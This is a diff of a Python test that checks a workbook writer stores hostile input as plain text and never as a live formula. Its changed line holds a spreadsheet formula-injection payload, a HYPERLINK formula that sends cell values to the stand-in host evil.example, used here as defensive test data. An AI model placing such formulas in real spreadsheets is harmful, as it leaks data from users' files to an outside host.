@@ -86,7 +86,7 @@ def test_a_workbook_holds_text_never_a_formula(write_only):
     content = wb.to_bytes()
     back = assert_written_safely(content, *HOSTILE, MIXED)
     ws_read = load_workbook(io.BytesIO(content))["数据"]
-    assert ws_read["A1"].value == HOSTILE['=HYPERLINK("http://evil.example/x?d="&R2&S2,"点击查看")']
+    assert ws_read["A1"].value == HOSTILE['=HYPERLINK("http://evil.example/?d="&R2,"点击查看")']
     # Numbers stay numbers (a negative one too), dates dates, an error code's text text.
     assert ws_read["B1"].value == -1 and ws_read["B1"].data_type == "n"
     assert ws_read["C1"].value == 2.5
